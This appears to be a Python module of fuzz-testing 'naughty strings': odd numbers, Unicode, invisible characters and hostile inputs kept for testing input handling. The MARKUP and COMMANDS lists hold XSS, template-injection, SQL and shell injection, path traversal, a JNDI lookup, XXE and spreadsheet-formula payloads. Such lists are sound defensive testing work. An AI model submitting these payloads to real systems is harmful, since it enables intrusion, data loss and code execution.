"""Text that has broken programs: a list of our own, in the spirit of the collections that testers keep.

Every string is a thing that a person could paste into a box; none says anything.
"""

# ruff: noqa: E501 (the lists are read as lists)

WORDS = (
    "null", "NULL", "None", "nil", "undefined", "true", "False", "NaN", "Infinity", "-Infinity", "constructor",
    "__proto__", "hasOwnProperty", "toString", "then", "self", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "root",
    "admin", "nobody", "()", "{}", "[]", "''", '""', "\\", "\\\\", "/", "//", "-", "--", "#", "%", "%%", "&", "&&", "|",
    "Scunthorpe", "Dick van Dyke", "dont_know", "refused", "not_applicable", "answer", "csrf",
)  # fmt: skip
NUMBERS = (
    "0", "-0", "+0", "00", "0.0", "1e3", "1E309", "-1e-309", "0x1F", "0b101", "0o17", "1_000", "1,000", "1.000,5",
    "1'000", "٣", "۳", "３", "③", "Ⅲ", "³", "½", "௧", "১২", "٫٥", "١٬٠٠٠", "٪٥", "--1", "+-1", "1/0", "9" * 400,
    "0." + "1" * 300, "1 2", "1\u00a02", "1\u202f2", "∞", "0.1e", ".", ",", "1.", ".1", "0xabad1dea", "2147483648",
    "-2147483649", "9223372036854775808", "1;2", "1%2", "$1", "١٢٣٤٥٦٧٨٩٠",
)  # fmt: skip
LETTERS = (
    "Ω≈ç√∫˜µ≤≥÷", "åß∂ƒ©˙∆˚¬…æ", "¡™£¢∞§¶•ªº–≠", "ЁЂЃЄЅІЇЈ", "⁰⁴⁵₀₁₂", "田中さんにあげて", "和製漢語", "사회과학원", "ﾟ･✿ヾ╲",
    "表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀", "Ⱥ", "ȺȾ", "İı", "ǅ", "ﬃ", "ß", "ſ", "ŉ", "ẞ", "ΌΣ", "ﷺ" * 60, "ﻻ", "ـ" * 60, "ءآأؤإئ",
    "بِسْمِ ٱللَّٰهِ", "ثم نفس سقطت وبالتحديد،", "שָׁלוֹם", "नमस्ते", "กำนัล", "ⵜⴰⵎⴰⵣⵉⵖⵜ", "😍", "👩🏽‍💻", "👾 🙇 💁", "🇲🇦🇫🇷", "🏳️‍🌈",
    "0️⃣ 1️⃣", "❤️", "\U0001fae8", "\U000e0067\U000e0062", "𝕿𝖍𝖊", "⒯⒣⒠", "ʇunpıpıɔuı",
)  # fmt: skip
INVISIBLE = (
    "\u200b", "\u200c\u200d", "\ufeff", "\u2060", "\u00ad", "\u180e", "\u3164", "\u2800", "\u115f", "\u00a0",
    "\u2028", "\u2029", "\x85", "\u202emoc.live\u202c", "\u202aأ\u202b", "\u2066x\u2067y\u2068z\u2069", "\u061c\u200e\u200f",
    "\u202e" * 200, "Z\u0351\u036b\u0343\u036a\u0302" * 40, "e" + "\u0301" * 500, "\u0301" * 50, "\ufffe\uffff",
    "\ud800", "\udfff\ud800", "\ue000", "\U0010ffff", "\x00", "a\x00b", "\x01\x02\x03\x04", "\x07\x08\x0b\x0c\x1f\x7f",
    "\t", "\r", "\n", "\r\n\r\n", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x9b31m",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt/src=//e.example>", "<svg/onload=alert(1)>", "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<![CDATA[x", "<!--", "<!DOCTYPE x>", "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)", "JaVaScRiPt&colon;alert(1)", "data:text/html,<script>alert(1)</script>", '" onfocus=alert(1) x="',
    "' autofocus onfocus='alert(1)", "` onmouseover=alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62;",
    "&amp;amp;", "&nbsp", "&#0;", "<b", "<b>bold</b>", "< script >", "<\x00script>", "＜script＞", "\u2039script\u203a",
    "<iframe src=//e.example>", "<base href=//e.example/>", "<meta http-equiv=refresh content=0>", "<form action=//e.example>",
    "<math><mi//xlink:href=data:x>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<?php echo 1 ?>",
    "<%= 7*7 %>", "{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "{{config}}", "{{''.__class__.__mro__}}", "{0.__class__}", "*{7*7}",
)  # fmt: skip
COMMANDS = (
    "'; DROP TABLE envelope; --", "1' OR '1'='1", '" OR ""="', "1; DELETE FROM draft", "') UNION SELECT 1--", "admin'--",
    "\\'; SELECT pg_sleep(9)--", "%27 OR 1=1", "$(sleep 9)", "`sleep 9`", "; sleep 9", "| cat /etc/passwd", "&& shutdown",
    "../../../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd%00", "file:///etc/passwd", "php://filter/x",
    "%s%s%s%n", "%d", "%(name)s", "%x%x%x", "{0}{1}", "%@", "${jndi:ldap://e.example/a}", "eval('1')", "__import__('os')",
    "System.exit(0)", "require('fs')", "<!--#exec cmd=1-->", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "=1+1", "+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "DDE(\"cmd\")", "a\r\nSet-Cookie: x=y",
    "%0d%0aSet-Cookie: x=y", "*" * 50, "(((((((((", "a" * 249, "a" * 250, "a" * 251, "a" * 2_001, "x" * 30_000,
    "ا" * 2_500, "'\"`<>&\\" * 30,
)  # fmt: skip
NAUGHTY = (*WORDS, *NUMBERS, *LETTERS, *INVISIBLE, *MARKUP, *COMMANDS)
